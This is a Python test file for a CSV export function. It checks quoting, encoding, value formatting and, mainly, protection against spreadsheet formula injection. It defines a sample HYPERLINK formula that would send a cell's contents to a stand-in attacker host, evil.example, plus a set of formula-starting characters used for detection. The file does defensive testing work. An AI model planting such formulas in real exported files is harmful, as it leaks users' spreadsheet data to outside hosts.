from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.formats.csv_file import write_csv
from tests.formats.tables import HEADER, peak_of, stream_of

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"look")'
FIRST_OF_A_FORMULA = "=+@＝＋－＠-"


def written(*rows, header=("A", "B"), **options) -> str:
    return b"".join(write_csv(header, rows, **options)).decode("utf-8-sig")


def cell_of(value: object) -> str:
    file = StringIO(written([value], header=["A"]), newline="")
    _, (cell,) = csv.reader(file)
    return cell


def read_with(text: str, delimiter: str) -> list[str]:
    """Return the cells that a program finds which splits lines at `delimiter`."""
    rows = csv.reader(StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def test_lines_end_in_carriage_return_and_line_feed():
    assert written(["a", "b"]) == "A,B\r\na,b\r\n"


def test_excel_is_told_that_the_file_is_unicode():
    assert b"".join(write_csv(["Café"], [])) == b"\xef\xbb\xbfCaf\xc3\xa9\r\n"


def test_delimiters_quotes_and_line_ends_within_a_cell_are_quoted():
    assert written(['a,"b"', "c\r\nd"]) == 'A,B\r\n"a,""b""","c\nd"\r\n'


def test_the_delimiter_can_be_that_of_a_dutch_machine():
    assert written(["a", "b,c"], delimiter=";") == "A;B\r\na;b,c\r\n"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "TRUE"),
        (-12, "-12"),
        (0.5, "0.5"),
        (Decimal("-1E+3"), "-1000"),
        (date(2026, 3, 10), "2026-03-10"),
        (datetime(2026, 3, 10, 9, 30, tzinfo=UTC), "2026-03-10 09:30:00+00:00"),
    ],
)
def test_values_are_written_so_that_every_program_reads_them(value, text):
    assert cell_of(value) == text


@pytest.mark.parametrize("first", FIRST_OF_A_FORMULA)
@pytest.mark.parametrize("before", ["", " ", "\u3000", "\xa0", "\u200b", "\ufeff", "\x00", '"'])
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(first: str, before: str):
    assert cell_of(f"{before}{first}1+1").startswith("'")


@pytest.mark.parametrize("first", "\t\r\n")
def test_a_text_that_begins_with_a_tab_or_a_line_end_gets_an_apostrophe(first: str):
    assert cell_of(f"{first}1").startswith("'")


def test_a_telephone_number_stays_readable():
    assert cell_of("+31 38 498 2092") == "'+31 38 498 2092"


@pytest.mark.parametrize("text", ["'s avonds", "a-b", "x=1", "piet@example.org", "3 + 4", ""])
def test_other_texts_stay_as_they_are(text: str):
    assert cell_of(text) == text


def test_the_header_is_made_safe_too():
    assert written(header=["=A"]) == "'=A\r\n"


@given(st.text(), st.sampled_from(FIRST_OF_A_FORMULA), st.sampled_from(";,\t|\n"))
def test_no_formula_begins_where_another_program_would_split_a_text(
    text: str, first: str, place: str
):
    file = written([f"{text}{place}{first}cmd", f"{place}{FORMULA}"])
    begins_like_a_formula = re.compile(rf"[\s\"\u200b\ufeff]*[{FIRST_OF_A_FORMULA}]")
    for delimiter in ",;\t|":
        for cell in read_with(file, delimiter):
            assert not begins_like_a_formula.match(cell)


@given(st.text(st.characters(categories=["L", "N", "Zs"]) | st.sampled_from(",;\"'\n")))
def test_what_has_nothing_of_a_formula_comes_back_as_it_was(text: str):
    assert cell_of("x" + text) == "x" + text


@given(st.text(st.characters()))
def test_any_text_can_be_written(text: str):
    assert written([text, "end"]).endswith("end\r\n")


def test_many_blanks_take_no_longer_than_other_text():
    # Each blank looked at once for each line end before it would be a thousand million steps.
    assert len(written([("\n" + " " * 1000) * 1000])) > 1_000_000


def test_rows_are_asked_for_as_they_are_written():
    taken: list[int] = []

    def rows():
        for number in range(100_000):
            taken.append(number)
            yield [number]

    next(write_csv(["Number"], rows()))
    assert 0 < len(taken) < 100_000


def test_ten_times_as_many_rows_take_no_more_memory():
    few, many = (peak_of(lambda n=n: write_csv(HEADER, stream_of(n))) for n in (2_000, 20_000))
    assert many < few + 50_000
